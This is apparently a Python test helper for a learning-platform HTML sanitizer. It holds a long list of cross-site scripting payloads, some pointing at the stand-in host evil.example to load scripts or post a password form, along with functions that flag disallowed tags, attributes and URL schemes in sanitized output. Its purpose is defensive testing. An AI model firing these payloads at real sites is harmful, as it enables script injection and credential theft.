"""Attacks by HTML, and what of them a page would still carry out."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

from lms.core import html

Element = tuple[str, dict[str, str]]

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    '<img src="javascript:alert(1)">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    "<img src=`x`onerror=alert(1)>",
    '<img srcset="x 1x, //evil.example/y 2x">',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
    (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
        "&lt;img src=1 onerror=alert(1)&gt;'>"
    ),
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<template><script>alert(1)</script></template>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(//evil.example/x)">x</p>',
    '<div style="width:expression(alert(1))">x</div>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="https://x.example" target=_blank onclick=alert(1)>x</a>',
    '<a href="https://x.example" ping=//evil.example>x</a>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=javascript:alert(1)><tr><td>x</table>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    '"><script>alert(1)</script>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<img name=cookie>",
    "<form id=app><input id=nodes></form>",
    "<a id=app href=#app>x</a><a id=app name=url>y</a>",
    "<p id=isi>x</p><p id='isi-isi'>y</p>",
    r"<span>\href{javascript:alert(1)}{x} \htmlData{onclick=alert(1)}{y}</span>",
]


class _Reader(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[Element] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def elements(text: str) -> list[Element]:
    """Return the elements of ``text`` with their attributes."""
    return _Reader(text).found


def is_allowed(tag: str, name: str) -> bool:
    """Tell whether authors may use the attribute ``name`` on ``tag``."""
    own = html._ATTRIBUTES.get(tag, set()) | html._ATTRIBUTES["*"]
    return name in own or (tag, name) == ("a", "rel")


def dangers(text: str) -> list[str]:
    """Return what in ``text`` no author may use: elements, attributes, addresses."""
    found: list[str] = []
    for tag, attributes in elements(text):
        found += [tag] if tag not in html._TAGS else []
        for name, value in attributes.items():
            found += [f"{tag} {name}"] if not is_allowed(tag, name) else []
            scheme = urlsplit(value.strip()).scheme if name in {"href", "src"} else ""
            found += [value] if scheme not in {*html._SCHEMES, ""} else []
    return found
